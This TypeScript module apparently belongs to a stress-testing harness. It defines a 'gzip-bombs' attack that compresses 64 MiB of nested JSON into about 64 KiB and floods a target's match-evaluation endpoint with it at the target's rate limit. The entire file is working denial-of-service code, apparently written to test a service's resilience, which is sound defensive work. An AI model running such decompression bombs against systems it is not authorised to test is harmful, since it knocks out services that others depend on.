import { gzipSync } from 'node:zlib'
import type { Attack } from '../attack.js'
import { startFlood } from '../flood.js'

const INFLATED_BYTES = 64 * 1024 * 1024
const NESTED = '[[[[[[[[]]]]]]]],'

export const gzipBombs: Attack = {
  name: 'gzip-bombs',
  describe: 'bodies of about 64 KiB that inflate to 64 MiB of nested JSON',
  start(target, outcomes) {
    const body = createBomb()
    return startFlood(target, outcomes, {
      perSecond: target.requestsPerMinute['match.evaluate'] / 60,
      nextRequest: () => ({
        route: '/v1/match/evaluate',
        body,
        headers: { 'Content-Encoding': 'gzip' },
      }),
    })
  },
}

/** Valid JSON, so that nothing but its size and structure can refuse it. */
function createBomb(): Buffer {
  const [start, end] = ['{"user_a":[', '0]}']
  const room = INFLATED_BYTES - start.length - end.length
  const values = Buffer.alloc(room - (room % NESTED.length), NESTED)
  return gzipSync(Buffer.concat([Buffer.from(start), values, Buffer.from(end)]), { level: 9 })
}
